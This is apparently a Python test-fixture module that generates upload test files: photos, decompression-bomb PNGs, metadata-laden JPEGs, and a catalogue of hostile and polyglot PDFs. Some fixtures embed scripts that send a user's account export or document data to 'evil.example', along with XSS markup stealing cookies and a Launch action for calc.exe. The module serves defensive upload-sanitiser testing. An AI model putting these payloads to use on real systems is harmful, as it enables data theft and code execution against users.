"""Real file bytes for upload tests: photos drawn with Pillow, PDFs from reportlab, crafted bad files."""

import io
import random
import struct
import zlib

from PIL import Image, ImageDraw


def photo_jpeg(*, size=(358, 441), background=(255, 255, 255), quality=95, seed=1) -> bytes:
    """A portrait ID photo: plain background, a 'person' (noisy ellipse and shoulders) in the middle.
    The noise keeps the JPEG well above 30 KB, as a real photo is."""
    width, height = size
    image = Image.new("RGB", size, background)
    noise = Image.effect_noise(size, 60).convert("RGB")
    rng = random.Random(seed)
    tint = Image.new("RGB", size, (180 + rng.randrange(40), 140, 120))
    person = Image.blend(noise, tint, 0.5)
    mask = Image.new("L", size, 0)
    draw = ImageDraw.Draw(mask)
    draw.ellipse((width * 0.28, height * 0.12, width * 0.72, height * 0.62), fill=255)
    draw.rectangle((width * 0.12, height * 0.66, width * 0.88, height), fill=255)
    draw.ellipse((width * 0.12, height * 0.58, width * 0.88, height * 0.82), fill=255)
    image.paste(person, (0, 0), mask)
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=quality)
    return out.getvalue()


def small_jpeg(kb_target=20) -> bytes:
    """A photo-sized JPEG of about 20 KB: right pixels, too few bytes."""
    for quality in range(60, 5, -5):
        data = photo_jpeg(quality=quality)
        if len(data) <= kb_target * 1024:
            return data
    raise AssertionError("could not make a small JPEG")


def png_bytes(size=(400, 500)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 50).convert("RGB").save(out, format="PNG")
    return out.getvalue()


def jpeg_with_exif_rotation() -> bytes:
    """A landscape-stored JPEG whose EXIF says 'rotate 90°' and carries a GPS-like comment."""
    image = Image.effect_noise((500, 380), 40).convert("RGB")
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    exif[0x010E] = "secret location 39.9N 116.4E"  # ImageDescription
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=95, exif=exif)
    return out.getvalue()


def truncated_jpeg() -> bytes:
    data = photo_jpeg()
    return data[: len(data) // 2]


def decompression_bomb_png(width=50_000, height=50_000) -> bytes:
    """A valid PNG header claiming 2.5 gigapixels, with a tiny compressed body."""

    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(b"\x00" * (width + 1) * 4, 9)  # a few rows; the rest would decompress from nothing
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def pdf_bytes(text="Diploma") -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=A4)
    pdf.drawString(100, 750, text)
    pdf.showPage()
    pdf.save()
    return out.getvalue()


def pdf_with_html_payload() -> bytes:
    """Starts like a PDF, carries a web page: what a polyglot upload looks like."""
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n<html><body><script>fetch('/api/v1/me/export')"
        b".then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script></body></html>\n"
        + pdf_bytes()[9:]
    )


def pdf_with_javascript() -> bytes:
    from pypdf import PdfReader, PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.add_open_action(JavaScript("app.alert('hi');"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def large_file(megabytes=8) -> bytes:
    return photo_jpeg()[:2] + b"\x00" * (megabytes * 1024 * 1024)


# --- Hostile PDFs: every place a viewer finds something to run, open, play or send ----------------
# Each is a real, valid PDF written by pypdf: a plain one-page document plus one active feature.


def _hostile_pdf(build) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _d(**entries):
    """A PDF dictionary from keyword names: _d(S="/JavaScript", JS="…")."""
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def value(v):
        if isinstance(v, str):
            return NameObject(v) if v.startswith("/") else TextStringObject(v)
        return v

    return DictionaryObject({NameObject(f"/{k}"): value(v) for k, v in entries.items()})


def _js(code="app.alert(1)"):
    return _d(Type="/Action", S="/JavaScript", JS=code)


def _goto():
    from pypdf.generic import ArrayObject, NameObject, NumberObject

    return _d(Type="/Action", S="/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))


def _set(obj, key, value):
    from pypdf.generic import NameObject

    obj[NameObject(f"/{key}")] = value


def _add_annotation(writer, annotation):
    from pypdf.generic import ArrayObject, FloatObject, NameObject

    _set(annotation, "Type", NameObject("/Annot"))
    _set(annotation, "Rect", ArrayObject([FloatObject(v) for v in (50, 50, 150, 100)]))
    page = writer.pages[0]
    annots = page.get("/Annots") or ArrayObject()
    annots.append(writer._add_object(annotation))
    _set(page, "Annots", annots)
    return annotation


def _next_chain(writer):
    """/OpenAction is a harmless GoTo whose /Next leads to a script."""
    first = _goto()
    _set(first, "Next", writer._add_object(_js()))
    _set(writer._root_object, "OpenAction", writer._add_object(first))


def _next_array(writer):
    from pypdf.generic import ArrayObject

    first = _goto()
    _set(first, "Next", ArrayObject([writer._add_object(_goto()), writer._add_object(_js())]))
    _set(writer._root_object, "OpenAction", writer._add_object(first))


def _next_cycle(writer, *, script=True):
    """A → B → A (a loop a naive walker never leaves), the script hanging off B."""
    a, b = _goto(), _goto()
    ref_a, ref_b = writer._add_object(a), writer._add_object(b)
    _set(a, "Next", ref_b)
    if script:
        from pypdf.generic import ArrayObject

        _set(b, "Next", ArrayObject([ref_a, writer._add_object(_js())]))
    else:
        _set(b, "Next", ref_a)
    _set(writer._root_object, "OpenAction", ref_a)


def _catalog_aa(writer):
    _set(writer._root_object, "AA", _d(WC=writer._add_object(_js())))


def _page_aa(writer):
    _set(writer.pages[0], "AA", _d(O=writer._add_object(_js())))


def _link_annotation_js(writer):
    _add_annotation(writer, _d(Subtype="/Link", A=writer._add_object(_js())))


def _annotation_aa(writer):
    _add_annotation(writer, _d(Subtype="/Link", AA=_d(E=writer._add_object(_js()))))


def _form_field_aa(writer):
    from pypdf.generic import ArrayObject

    field = _add_annotation(writer, _d(Subtype="/Widget", FT="/Tx", T="name", AA=_d(K=writer._add_object(_js()))))
    _set(writer._root_object, "AcroForm", _d(Fields=ArrayObject([writer._add_object(field)])))


def _form_field_kid_aa(writer):
    """The script sits on a kid widget of a field, reachable only through /AcroForm /Fields /Kids."""
    from pypdf.generic import ArrayObject

    parent = _d(FT="/Tx", T="parent")
    parent_ref = writer._add_object(parent)
    kid = _d(Subtype="/Widget", Parent=parent_ref, AA=_d(Fo=writer._add_object(_js())))
    kid_ref = writer._add_object(kid)
    _set(parent, "Kids", ArrayObject([kid_ref]))
    _set(writer._root_object, "AcroForm", _d(Fields=ArrayObject([parent_ref])))


def _names_javascript(writer):
    """A document-level script in the /Names /JavaScript tree (runs when the document opens)."""
    from pypdf.generic import ArrayObject, TextStringObject

    tree = _d(Names=ArrayObject([TextStringObject("init"), writer._add_object(_js("app.alert('names');"))]))
    _set(writer._root_object, "Names", _d(JavaScript=writer._add_object(tree)))


def _embedded_file(writer):
    writer.add_attachment("invoice.html", b"<p>hello</p>")


def _file_attachment_annotation_with_html(writer):
    from pypdf.generic import DecodedStreamObject, NameObject

    stream = DecodedStreamObject()  # compressed, so no marker shows in the file's bytes
    stream.set_data(zlib.compress(b"<html><script>alert(document.cookie)</script></html>"))
    _set(stream, "Filter", NameObject("/FlateDecode"))
    _set(stream, "Type", NameObject("/EmbeddedFile"))
    spec = _d(Type="/Filespec", F="page.htm", EF=_d(F=writer._add_object(stream)))
    _add_annotation(writer, _d(Subtype="/FileAttachment", FS=writer._add_object(spec), Name="/Paperclip"))


def _action(kind, **extra):
    def build(writer):
        _set(writer._root_object, "OpenAction", writer._add_object(_d(Type="/Action", S=kind, **extra)))

    return build


def _screen_rendition(writer):
    from pypdf.generic import NumberObject

    rendition = _d(Type="/Action", S="/Rendition", OP=NumberObject(0))
    _add_annotation(writer, _d(Subtype="/Screen", A=writer._add_object(rendition)))


def _rich_media(writer):
    _add_annotation(writer, _d(Subtype="/RichMedia", RichMediaContent=_d(Assets=_d())))


def _outline_js(writer):
    """A bookmark whose action is a script: reachable through /Outlines only."""
    item = _d(Title="第一章", A=writer._add_object(_js()))
    item_ref = writer._add_object(item)
    outlines = _d(Type="/Outlines", First=item_ref, Last=item_ref)
    outlines_ref = writer._add_object(outlines)
    _set(item, "Parent", outlines_ref)
    _set(writer._root_object, "Outlines", outlines_ref)


def _js_in_a_stream(writer):
    from pypdf.generic import DecodedStreamObject

    code = DecodedStreamObject()
    code.set_data(b"app.launchURL('https://evil.example/' + this.info.title);")
    _set(writer._root_object, "OpenAction", writer._add_object(_d(S="/JavaScript", JS=writer._add_object(code))))


def _xfa_form(writer):
    from pypdf.generic import ArrayObject, DecodedStreamObject

    xdp = DecodedStreamObject()
    xdp.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><event activity="initialize"/></xdp:xdp>')
    _set(writer._root_object, "AcroForm", _d(Fields=ArrayObject(), XFA=writer._add_object(xdp)))


HOSTILE_PDFS = {
    "openaction_javascript": lambda w: w.add_open_action(__import__("pypdf").actions.JavaScript("app.alert(1)")),
    "next_chain_javascript": _next_chain,
    "next_array_javascript": _next_array,
    "next_cycle_javascript": _next_cycle,
    "catalog_aa_javascript": _catalog_aa,
    "page_aa_javascript": _page_aa,
    "link_annotation_javascript": _link_annotation_js,
    "annotation_aa_javascript": _annotation_aa,
    "form_field_aa_javascript": _form_field_aa,
    "form_field_kid_aa_javascript": _form_field_kid_aa,
    "names_tree_javascript": _names_javascript,
    "outline_javascript": _outline_js,
    "javascript_in_a_stream": _js_in_a_stream,
    "embedded_file": _embedded_file,
    "file_attachment_annotation_html": _file_attachment_annotation_with_html,
    "launch": _action("/Launch", F="calc.exe"),
    "gotor_remote_file": _action("/GoToR", F="other.pdf"),
    "gotoe_embedded": _action("/GoToE", NewWindow=_d()),
    "rendition_screen": _screen_rendition,
    "rendition_action": _action("/Rendition", OP=__import__("pypdf").generic.NumberObject(0)),
    "sound_action": _action("/Sound"),
    "rich_media": _rich_media,
    "submit_form": _action("/SubmitForm", F="https://evil.example/collect"),
    "import_data": _action("/ImportData", F="data.fdf"),
    "xfa_form": _xfa_form,
}


def hostile_pdf(name: str) -> bytes:
    return _hostile_pdf(HOSTILE_PDFS[name])


def pdf_with_benign_action_cycle() -> bytes:
    """A GoTo loop with nothing active: must be accepted (and the walk must end)."""
    return _hostile_pdf(lambda w: _next_cycle(w, script=False))


# Raw web markup in a PDF's bytes, in the forms a browser would still run.
HTML_IN_PDF = {
    "svg_onload": b"<svg onload=alert(1)>",
    "body_onload": b"<BODY onload='fetch(\"/api/v1/me/export\")'>",
    "img_onerror": b"<img src=x onerror=alert(1)>",
    "uppercase_script": b"<SCRIPT>alert(1)</SCRIPT>",
    "javascript_uri": b"<< /S /URI /URI (javascript:alert(1)) >>",
}


def pdf_with_markup(markup: bytes) -> bytes:
    """A valid PDF with web markup in a comment line after the header (a polyglot)."""
    data = pdf_bytes()
    head, rest = data.split(b"\n", 1)
    return head + b"\n%" + markup + b"\n" + rest


def scanned_pdf(pages=3, *, black_box_on_first=True) -> bytes:
    """A multi-page PDF of page images, as a scanner makes: paper-coloured pages with lines of
    'text'; the first page carries a big black rectangle (its rendering must show dark pixels)."""
    images = []
    for number in range(pages):
        image = Image.new("RGB", (1240, 1754), (246, 244, 238))
        draw = ImageDraw.Draw(image)
        for y in range(200, 1600, 60):
            draw.rectangle((150, y, 1090, y + 12), fill=(90, 90, 90))
        if number == 0 and black_box_on_first:
            draw.rectangle((300, 400, 940, 1000), fill=(0, 0, 0))
        images.append(image)
    out = io.BytesIO()
    images[0].save(out, format="PDF", save_all=True, append_images=images[1:], resolution=150)
    return out.getvalue()


def jpeg_with_comment_and_app_segments() -> bytes:
    """A JPEG carrying a COM comment, an XMP (APP1) packet, a Photoshop IRB (APP13) and an APP15
    segment, each with a secret: none may survive the re-encode."""
    base = photo_jpeg(size=(600, 400))
    assert base[:2] == b"\xff\xd8"

    def segment(marker: int, payload: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload

    extra = (
        segment(0xFE, b"SECRET-COMMENT operator=zhangsan gps=39.9N")
        + segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta>SECRET-XMP</x:xmpmeta>")
        + segment(0xED, b"Photoshop 3.0\x008BIMSECRET-IRB")
        + segment(0xEF, b"SECRET-APP15")
    )
    return base[:2] + extra + base[2:]


def jpeg_segments(data: bytes) -> list[int]:
    """The markers of a JPEG's header segments, up to the start of scan."""
    markers, pos = [], 2
    while pos < len(data):
        assert data[pos] == 0xFF, "not a marker"
        marker = data[pos + 1]
        markers.append(marker)
        if marker == 0xDA:  # start of scan: entropy-coded data follows
            break
        length = struct.unpack(">H", data[pos + 2 : pos + 4])[0]
        pos += 2 + length
    return markers


def png_header_only(width=6300, height=6300) -> bytes:
    """A PNG whose header claims width×height but whose pixel data is a few rows: decoding it fully
    fails (corrupt), so a refusal as 'too large' proves the size was judged before decoding."""
    return decompression_bomb_png(width, height)


def big_white_png(width=6300, height=6300) -> bytes:
    """A complete, valid white PNG of width×height written row by row (~116 KB for 6300×6300, as in
    issue 9), never held decoded here."""

    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\xff" * (width * 3)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
